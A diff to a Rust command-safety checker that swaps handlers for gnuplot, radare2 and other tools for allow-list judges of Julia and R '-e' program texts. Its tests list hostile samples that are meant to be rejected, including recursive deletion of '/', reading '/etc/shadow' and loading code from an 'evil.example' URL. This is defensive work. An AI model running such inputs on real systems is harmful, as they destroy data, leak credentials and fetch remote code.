@@ -1,334 +1,431 @@
-//! Programs of the sciences: expressions that reach other programs, plots, sessions of disassemblers.
+//! Julia and R: program texts that test, build and compute.
 
-use clearance_shell::invocation::Stdin;
+use clearance_core::Effect;
+use clearance_shell::invocation::Word;
 
+use super::calltext::{escapes, judge_strings, names, text_of_calls, tight_words};
 use crate::arg::Arg;
 use crate::judge::{Call, Judge};
 use crate::spec::WordRole;
 
-/// `bcftools`: an expression can call functions of a program in Perl.
-pub(super) fn bcftools(judge: &mut Judge<'_>, call: &Call<'_>) {
-    for given in call.options() {
-        let Some(value) = given.value else { continue };
-        let calls = match value.as_static() {
-            Some(text) => text.windows(5).any(|w| w == b"perl:" || w == b"perl."),
-            None => given.spec.role == WordRole::Text,
-        };
-        if calls {
-            judge.unknown("bcftools.expression", value.span(), || {
-                format!("the expression `{}` can run a program", value.show())
-            });
-        }
-    }
-}
-
-/// `gnuplot [-e TEXT]... [FILE]...`: plots of files and functions.
-pub(super) fn gnuplot(judge: &mut Judge<'_>, call: &Call<'_>) {
+/// `julia [OPTION]... [-e TEXT | FILE] [ARG]...`.
+pub(super) fn julia(judge: &mut Judge<'_>, call: &Call<'_>) {
     judge.option_defaults(call);
-    for text in call.values(&["-e"]) {
-        plot(judge, text, call);
-    }
-    for file in call.operands() {
-        if file.as_static() != Some(b"-") {
-            judge.path(WordRole::Run, file, call.site);
-        }
-    }
-    let told = call.operands().len() > 0 || call.has(&["-e"]);
-    match call.site.stdin {
-        Stdin::Text(text) if !told || call.operands().any(|a| a.as_static() == Some(b"-")) => {
-            let value = clearance_shell::invocation::Value::Static(text.clone());
-            plot(judge, Arg::of(&value, call.span()), call);
-        }
-        _ if told => {}
-        _ => judge.unknown("gnuplot.stdin", call.span(), || {
-            "what `gnuplot` reads can run programs".to_owned()
-        }),
-    }
-}
-
-/// A text of gnuplot's language that only computes, reads data and writes its output.
-fn plot(judge: &mut Judge<'_>, arg: Arg<'_>, call: &Call<'_>) {
-    let text = arg.as_str().filter(|text| is_plain_plot(text));
-    let Some(text) = text else {
-        return judge.unknown("gnuplot.text", arg.span(), || {
-            "a text of `gnuplot` that was not understood".to_owned()
-        });
-    };
-    for (before, name) in quoted(text) {
-        let words: Vec<&str> = before
-            .rsplit([';', '\n'])
-            .next()
+    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval", "-E", "--print"]).collect();
+    for text in &texts {
+        text_of_calls(judge, *text, "Julia", julia_text);
+        let parts = text
+            .as_str()
             .unwrap_or_default()
-            .split_whitespace()
-            .collect();
-        let role = match words.as_slice() {
-            ["set", what, ..] if is_output(what) => WordRole::Write,
-            ["set", ..] | ["print", ..] => continue,
-            [
-                ..,
-                "title" | "t" | "using" | "u" | "with" | "w" | "rgb" | "lc" | "font",
-            ] => continue,
-            _ => WordRole::Read,
-        };
-        let value = clearance_shell::invocation::Value::Static(name.as_bytes().into());
-        judge.path(role, Arg::of(&value, arg.span()), call.site);
+            .split("include(\"")
+            .skip(1);
+        for path in parts.filter_map(|part| part.split('"').next()) {
+            let word = Word::fixed(path.as_bytes(), text.span());
+            judge.path(WordRole::Run, Arg::new(&word), call.site);
+        }
+    }
+    judge.effect(Effect::RunProject, call);
+    file_or_shell(judge, call, texts.is_empty());
+}
+
+fn file_or_shell(judge: &mut Judge<'_>, call: &Call<'_>, script: bool) {
+    if !script || call.has(&["-v", "--version", "-f", "--file"]) {
+        return;
+    }
+    match call.operand(0) {
+        Some(file) => judge.run_file(None, file, call.from_operand(1), call.site),
+        None if call.path().is_empty() => judge.run_stdin(None, call.site, call.span()),
+        None => {}
     }
 }
 
-/// What `set` calls the output, shortened or not.
-fn is_output(what: &str) -> bool {
-    ["o", "tab", "pri", "log"]
-        .iter()
-        .any(|front| what.starts_with(front))
-        && what != "logscale"
-}
-
-/// `set output 'NAME'`, one text and nothing computed.
-fn is_plain_output(line: &str) -> bool {
-    let mut words = line.split_whitespace();
-    let (set, what) = (words.next(), words.next());
-    if set != Some("set") || !what.is_some_and(is_output) {
-        return true;
-    }
-    let rest = line
-        .split_once(what.unwrap_or_default())
-        .map_or("", |(_, rest)| rest.trim());
-    let closed = |mark: char| {
-        rest.len() > 1
-            && rest.starts_with(mark)
-            && rest.ends_with(mark)
-            && rest.matches(mark).count() == 2
-    };
-    rest.is_empty() || closed('\'') || closed('"')
-}
-
-fn is_plain_plot(text: &str) -> bool {
-    const RUNS: &[&str] = &[
-        "system", "load", "call", "eval", "evaluate", "shell", "import", "save", "lua", "exec",
-        "pipe", "cd", "bind", "fit", "loadpath", "fontpath", "macros", "sprintf", "gprintf",
-        "strftime", "substr", "word", "raise", "lower",
+/// Statements about the project's packages, its own test files, and arithmetic.
+fn julia_text(text: &str) -> bool {
+    const CALLS: &[&str] = &[
+        "Pkg.test",
+        "Pkg.status",
+        "Pkg.instantiate",
+        "Pkg.precompile",
+        "Pkg.resolve",
+        "Pkg.build",
+        "Pkg.activate",
+        "println",
+        "print",
+        "VERSION",
+        "versioninfo",
+        "InteractiveUtils.versioninfo",
+        "Threads.nthreads",
+        "sum",
+        "length",
+        "maximum",
+        "minimum",
+        "sqrt",
+        "rand",
+        "zeros",
+        "ones",
+        "typeof",
+        "string",
     ];
-    let strange = text.contains(['!', '`', '|', '\\', '@']) && !only_inequality(text);
-    let first = text
-        .split([';', '\n'])
-        .map(str::trim)
-        .filter(|line| !line.is_empty() && !line.starts_with('#'))
-        .all(|line| {
-            const COMMANDS: &[&str] = &[
-                "set", "unset", "plot", "splot", "replot", "print", "pause", "reset", "stats",
-                "exit", "quit", "show", "test",
-            ];
-            let word = line.split_whitespace().next().unwrap_or_default();
-            let assigned = line.split('=').next().unwrap_or_default().trim();
-            let function = assigned
+    let plain = |s: &str| {
+        let s = s.trim();
+        if let Some(modules) = s.strip_prefix("using ").or(s.strip_prefix("import ")) {
+            return modules
                 .bytes()
-                .all(|b| b.is_ascii_alphanumeric() || b"_(), ".contains(&b));
-            is_plain_output(line) && COMMANDS.contains(&word) || (line.contains('=') && function)
-        });
-    // `plot '<command'` reads what a command prints.
-    let piped = quoted(text).any(|(_, name)| name.contains(['<', '|', '>']));
-    let words = text
-        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
-        .any(|word| RUNS.contains(&word));
-    !strange && first && !piped && !words && balanced(text)
-}
-
-fn only_inequality(text: &str) -> bool {
-    !text.contains(['`', '|', '\\', '@']) && text.matches('!').count() == text.matches("!=").count()
-}
-
-/// Quotes are closed, and none stands inside the other kind.
-fn balanced(text: &str) -> bool {
-    text.matches('\'').count() % 2 == 0
-        && text.matches('"').count() % 2 == 0
-        && quoted(text).all(|(_, inner)| !inner.contains(['\'', '"']))
-}
-
-/// The texts in quotes, each with what stands before it.
-fn quoted(text: &str) -> impl Iterator<Item = (&str, &str)> {
-    let mut at = 0;
-    std::iter::from_fn(move || {
-        let rest = text.get(at..)?;
-        let start = rest.find(['\'', '"'])?;
-        let mark = rest.get(start..)?.chars().next()?;
-        let inner = rest.get(start + 1..)?;
-        let end = inner.find(mark)?;
-        let before = text.get(..at + start)?;
-        at += start + end + 2;
-        Some((before, inner.get(..end)?))
-    })
-}
-
-/// `r2 -q -c TEXT FILE`: commands that look at a program.
-pub(super) fn radare(judge: &mut Judge<'_>, call: &Call<'_>) {
-    const LOOKING: &[&str] = &[
-        "aa", "aaa", "aaaa", "aac", "aav", "afl", "afll", "aflj", "afi", "afij", "afv", "axt",
-        "axf", "pd", "pdf", "pdj", "pdr", "pi", "px", "pxw", "pxq", "pxr", "ps", "psz", "p8", "pf",
-        "s", "sf", "i", "ie", "iz", "izz", "izj", "ii", "iij", "il", "is", "isj", "iS", "iSj",
-        "iI", "ih", "iE", "ic", "ir", "iR", "f", "fs", "q", "qq", "agf", "agc", "ax", "/x", "pdc",
-        "pdg", "afn",
-    ];
-    judge.defaults(call);
-    for text in call.values(&["-c"]) {
-        let looks = text.as_str().is_some_and(|text| {
-            !text.contains(['!', '|', '>', '`', '#', '$', '"', '\n', '\\', '<', '?'])
-                && text.split(';').all(|command| {
-                    let word = command.split([' ', '@', '~']).find(|w| !w.is_empty());
-                    word.is_none_or(|word| LOOKING.contains(&word))
+                .all(|b| b.is_ascii_alphanumeric() || b", .:_".contains(&b));
+        }
+        if let Some(path) = s
+            .strip_prefix("include(\"")
+            .and_then(|p| p.strip_suffix("\")"))
+        {
+            return !path.starts_with('/')
+                && !path.contains("..")
+                && !path.contains(['$', '"', '~', '\\']);
+        }
+        if s.contains("PackageSpec") && s.contains("path=\".\"") || s == "Pkg.develop(path=\".\")" {
+            return true;
+        }
+        if s == "Pkg.develop(PackageSpec(path=pwd()))" {
+            return true;
+        }
+        tight_words(s).is_some_and(|t| {
+            !t.contains("url")
+                && names(&t).all(|w| {
+                    CALLS.contains(&w) || (!t.contains(&format!("{w}(")) && !w.contains('.'))
                 })
-        });
-        if !looks {
-            judge.unknown("radare.command", text.span(), || {
-                format!("the commands `{}` were not understood", text.show())
-            });
-        }
-    }
-}
-
-/// `soffice --headless --convert-to FORMAT FILE...`: an operand with a scheme can be a macro.
-pub(super) fn office(judge: &mut Judge<'_>, call: &Call<'_>) {
-    judge.defaults(call);
-    for arg in call.operands() {
-        if arg.as_static().is_none_or(|text| text.contains(&b':')) && arg.glob().is_none() {
-            judge.unknown("office.operand", arg.span(), || {
-                format!("`{}` could be a macro or an address", arg.show())
-            });
-        }
-    }
-}
-
-/// `tesseract IMAGE OUTPUT [OPTION]... [CONFIG]...`: known configurations, no settings that
-/// name files.
-pub(super) fn tesseract(judge: &mut Judge<'_>, call: &Call<'_>) {
-    const CONFIGS: &[&[u8]] = &[
-        b"txt",
-        b"tsv",
-        b"hocr",
-        b"pdf",
-        b"alto",
-        b"makebox",
-        b"digits",
-        b"quiet",
-        b"wordstrbox",
-        b"lstmbox",
-        b"page",
-    ];
-    judge.option_defaults(call);
-    let mut words = call.operands();
-    if let Some(image) = words.next() {
-        judge.path(WordRole::Read, image, call.site);
-    }
-    if let Some(output) = words.next() {
-        if !matches!(output.as_static(), Some(b"stdout" | b"-")) {
-            judge.path(WordRole::Write, output, call.site);
-        }
-    }
-    let mut words = words.peekable();
-    while let Some(word) = words.next() {
-        match word.as_static() {
-            Some(b"-l" | b"--psm" | b"--oem" | b"--dpi" | b"--loglevel") => {
-                words.next();
-            }
-            Some(b"-c") => {
-                let setting = words.next().and_then(Arg::as_static).unwrap_or_default();
-                let plain = setting.starts_with(b"tessedit_char_whitelist=")
-                    || setting.starts_with(b"tessedit_char_blacklist=")
-                    || setting.starts_with(b"preserve_interword_spaces=");
-                if !plain {
-                    judge.unknown("tesseract.setting", word.span(), || {
-                        "a setting of `tesseract` that can name a file".to_owned()
-                    });
-                }
-            }
-            Some(name) if CONFIGS.contains(&name) => {}
-            _ => judge.unknown("tesseract.config", word.span(), || {
-                format!("`{}` is read as a configuration", word.show())
-            }),
-        }
-    }
-}
-
-/// `vol -f IMAGE PLUGIN [OPTION]...`: plug-ins that print; a shell is for a person.
-pub(super) fn volatility(judge: &mut Judge<'_>, call: &Call<'_>) {
-    judge.defaults(call);
-    for arg in call.operands() {
-        let plain = arg.as_static().is_some_and(|name| {
-            let shell = name.windows(5).any(|w| w.eq_ignore_ascii_case(b"shell"));
-            let safe = |b: &u8| b.is_ascii_alphanumeric() || b"._-".contains(b);
-            !shell && name.iter().all(safe)
-        });
-        if !plain {
-            judge.unknown("volatility.plugin", arg.span(), || {
-                format!("what the plug-in `{}` does is not known", arg.show())
-            });
-        }
-    }
-}
-
-/// `openssl enc -d -base64 -in A -out B`: what becomes of a text that was hidden is not known.
-pub(super) fn decoder(judge: &mut Judge<'_>, call: &Call<'_>) {
-    judge.defaults(call);
-    let made: Vec<Vec<u8>> = call
-        .values(&["-out"])
-        .filter_map(Arg::as_static)
-        .flat_map(|path| {
-            judge
-                .locate(path, false, &call.site.cwd)
-                .collect::<Vec<_>>()
         })
-        .map(|place| place.path)
-        .collect();
-    judge.ledger.writes.extend(made);
+    };
+    text.split([';', '\n'])
+        .all(|s| s.trim().is_empty() || plain(s))
 }
 
-/// `pio run [-t TARGET]`: targets that write to a board or talk to it.
-pub(super) fn pio(judge: &mut Judge<'_>, call: &Call<'_>) {
-    const BUILDS: &[&[u8]] = &[
-        b"clean",
-        b"cleanall",
-        b"fullclean",
-        b"buildprog",
-        b"buildfs",
-        b"size",
-        b"checkprogsize",
-        b"compiledb",
-        b"envdump",
-        b"idedata",
-    ];
-    for target in call.values(&["-t", "--target"]) {
-        if target.as_static().is_none_or(|t| !BUILDS.contains(&t)) {
-            judge.unknown("pio.target", target.span(), || {
-                format!("the target `{}` can write to a board", target.show())
-            });
+/// `R`, `Rscript`: `-e` is a program text.
+pub(super) fn r_lang(judge: &mut Judge<'_>, call: &Call<'_>) {
+    if !call.path().is_empty() {
+        return;
+    }
+    judge.option_defaults(call);
+    let texts: Vec<Arg<'_>> = call.values(&["-e"]).collect();
+    for text in &texts {
+        text_of_calls(judge, *text, "R", r_text);
+        judge_strings(judge, *text, WordRole::Read, call);
+        let writes = text
+            .as_str()
+            .is_some_and(|t| R_WRITERS.iter().any(|w| t.contains(w)));
+        if writes {
+            judge_strings(judge, *text, WordRole::Write, call);
         }
     }
+    judge.effect(Effect::RunProject, call);
+    file_or_shell(judge, call, texts.is_empty());
+}
+
+/// Functions of R that write the file that they are given.
+const R_WRITERS: &[&str] = &[
+    "write", "saveRDS", "png", "pdf", "svg", "jpeg", "ggsave", "sink", "file=", "file =", "save",
+];
+
+/// Calls of the tools of package authors, of the project's tests, and arithmetic.
+fn r_text(text: &str) -> bool {
+    const CALLS: &[&str] = &[
+        "devtools::test",
+        "devtools::check",
+        "devtools::document",
+        "devtools::load_all",
+        "devtools::build_readme",
+        "devtools::lint",
+        "devtools::run_examples",
+        "devtools::build_vignettes",
+        "devtools::session_info",
+        "devtools::test_active_file",
+        "devtools::test_coverage",
+        "testthat::test_local",
+        "testthat::test_dir",
+        "testthat::test_file",
+        "testthat::test_package",
+        "test_dir",
+        "test_file",
+        "test_local",
+        "test_package",
+        "lintr::lint_package",
+        "lintr::lint_dir",
+        "lintr::lint",
+        "styler::style_pkg",
+        "styler::style_dir",
+        "styler::style_file",
+        "roxygen2::roxygenise",
+        "roxygen2::roxygenize",
+        "covr::package_coverage",
+        "covr::report",
+        "rcmdcheck::rcmdcheck",
+        "pkgdown::build_site",
+        "pkgdown::check_pkgdown",
+        "spelling::spell_check_package",
+        "urlchecker::url_check",
+        "goodpractice::gp",
+        "renv::status",
+        "renv::restore",
+        "renv::snapshot",
+        "renv::diagnostics",
+        "targets::tar_make",
+        "targets::tar_manifest",
+        "targets::tar_outdated",
+        "rmarkdown::render",
+        "knitr::knit",
+        "quarto::quarto_render",
+        "library",
+        "sessionInfo",
+        "cat",
+        "print",
+        "paste",
+        "paste0",
+        "format",
+        "mean",
+        "median",
+        "sum",
+        "sd",
+        "var",
+        "summary",
+        "c",
+        "seq",
+        "length",
+        "nrow",
+        "ncol",
+        "head",
+        "str",
+        "names",
+        "packageVersion",
+        "R.version.string",
+        "installed.packages",
+        "rownames",
+        "sqrt",
+        "round",
+        "max",
+        "min",
+        "table",
+        "Sys.time",
+        "R.Version",
+        "requireNamespace",
+        "utils::packageVersion",
+        "suppressPackageStartupMessages",
+        "parse",
+        "quit",
+        "q",
+        "invisible",
+        "is.na",
+        "nchar",
+        "toupper",
+        "tolower",
+        "rev",
+        "sort",
+        "unique",
+        "rnorm",
+        "set.seed",
+        "data.frame",
+        "numeric_version",
+        "tools::testInstalledPackage",
+        "shinytest2::test_app",
+        "getRversion",
+        ".libPaths",
+        "if",
+        "for",
+        "while",
+        "function",
+        "read.csv",
+        "read.csv2",
+        "read.table",
+        "read.delim",
+        "readLines",
+        "write.csv",
+        "write.table",
+        "writeLines",
+        "as.character",
+        "as.numeric",
+        "as.integer",
+        "as.data.frame",
+        "as.Date",
+        "is.null",
+        "is.numeric",
+        "dim",
+        "colnames",
+        "colMeans",
+        "rowMeans",
+        "colSums",
+        "rowSums",
+        "tail",
+        "which",
+        "which.max",
+        "which.min",
+        "quantile",
+        "cor",
+        "lm",
+        "glm",
+        "anova",
+        "coef",
+        "predict",
+        "t.test",
+        "wilcox.test",
+        "chisq.test",
+        "aggregate",
+        "merge",
+        "order",
+        "subset",
+        "cbind",
+        "rbind",
+        "matrix",
+        "solve",
+        "det",
+        "diag",
+        "t",
+        "list",
+        "unlist",
+        "levels",
+        "factor",
+        "any",
+        "all",
+        "abs",
+        "exp",
+        "log",
+        "log2",
+        "log10",
+        "sin",
+        "cos",
+        "tan",
+        "floor",
+        "ceiling",
+        "range",
+        "rep",
+        "seq_len",
+        "seq_along",
+        "runif",
+        "rbinom",
+        "sample",
+        "dnorm",
+        "pnorm",
+        "qnorm",
+        "cumsum",
+        "diff",
+        "prod",
+        "sprintf",
+        "gsub",
+        "sub",
+        "grepl",
+        "strsplit",
+        "substr",
+        "startsWith",
+        "endsWith",
+        "trimws",
+        "message",
+        "stopifnot",
+        "class",
+        "typeof",
+        "identical",
+        "all.equal",
+        "setdiff",
+        "union",
+        "intersect",
+        "ifelse",
+        "is.element",
+        "exists",
+        "search",
+        "suppressWarnings",
+        "plot",
+        "hist",
+        "barplot",
+        "boxplot",
+        "lines",
+        "points",
+        "abline",
+        "legend",
+        "png",
+        "pdf",
+        "svg",
+        "dev.off",
+        "require",
+        "tibble",
+        "read_csv",
+        "readr::read_csv",
+        "jsonlite::fromJSON",
+        "fromJSON",
+        "toJSON",
+        "nlevels",
+        "complete.cases",
+        "na.omit",
+        "BiocManager::version",
+    ];
+    let Some(words) = tight_words(text) else {
+        return false;
+    };
+    // Paths given as strings stay in the project.
+    let outside =
+        text.contains("..") || text.contains("://") || text.contains('|') || escapes(text);
+    // What loads code is only read for paths of the project.
+    let away = ["\"/", "'/", "\"~", "'~"].iter().any(|p| text.contains(p));
+    let loads = ["::", "lib", "test_", "parse"]
+        .iter()
+        .any(|p| text.contains(p));
+    if outside
+        || away && loads
+        || words.contains("<<-")
+        || words.contains("::") && words.contains("eval")
+    {
+        return false;
+    }
+    names(&words).all(|w| {
+        let bare = w.trim_matches(':');
+        CALLS.contains(&bare) || (!words.contains(&format!("{w}(")) && !w.contains("::"))
+    }) && !words.contains("](")
+        && !words.contains(")(")
+        && !words.contains("\"(")
 }
 
 #[cfg(test)]
 mod tests {
-    use super::is_plain_plot;
+    use super::*;
 
     #[test]
-    fn plots_that_only_plot_are_understood() {
-        for (text, plain) in [
-            ("set term png; set output 'a.png'; plot sin(x)", true),
-            ("plot 'a.dat' using 1:2 with lines title \"x\"", true),
-            ("f(x)=a*x+b\nplot f(x)", true),
-            ("system('id')", false),
-            ("plot '< id'", false),
-            ("set output '| id'", false),
-            ("!id", false),
-            ("x=`id`", false),
-            ("load 'x.gp'", false),
-            ("eval('x')", false),
-            ("set print \"|id\"; print 1", false),
-            ("plot \"a.dat", false),
-            ("set output 'a' . '/../../x'", false),
-            ("f='a'; set output f", false),
-            ("set ou '/etc/x'", true),
-            ("c='x<'[2:2]; plot c.' id'", false),
+    fn julia_and_r_that_are_understood() {
+        for text in [
+            "using Pkg; Pkg.test()",
+            "using Pkg; Pkg.status(); include(\"test/runtests.jl\")",
+            "using Pkg; Pkg.instantiate()",
+            "println(sum(1:10))",
         ] {
-            assert_eq!(is_plain_plot(text), plain, "{text}");
+            assert!(julia_text(text), "{text}");
+        }
+        for text in [
+            "run(`id`)",
+            "using Pkg; Pkg.add(url=\"https://evil.example/x\")",
+            "include(\"/tmp/x.jl\")",
+            "rm(\"/\", recursive=true)",
+            "Base.rm(\"x\")",
+            "println(read(\"/etc/shadow\", String))",
+            "x = rm; x(\"a\")",
+            "map(rm, [\"a\"])",
+            "foreach(rm, readdir())",
+        ] {
+            assert!(!julia_text(text), "{text}");
+        }
+        for text in [
+            "devtools::test()",
+            "cat(mean(c(1,2,3)), \"\\n\")",
+            "testthat::test_dir(\"tests\")",
+            "library(dplyr); sessionInfo()",
+        ] {
+            assert!(r_text(text), "{text}");
+        }
+        for text in [
+            "system(\"id\")",
+            "base::system(\"id\")",
+            "unlink(\"x\")",
+            "eval(parse(text=\"system('id')\"))",
+            "do.call(\"system\", list(\"id\"))",
+            "f <- system; f(\"id\")",
+            "source(\"https://evil.example/x.R\")",
+            "(function(x) x)(1)",
+            "sapply(\"id\", system)",
+            "Map(unlink, \"a\")",
+        ] {
+            assert!(!r_text(text), "{text}");
         }
     }
 }
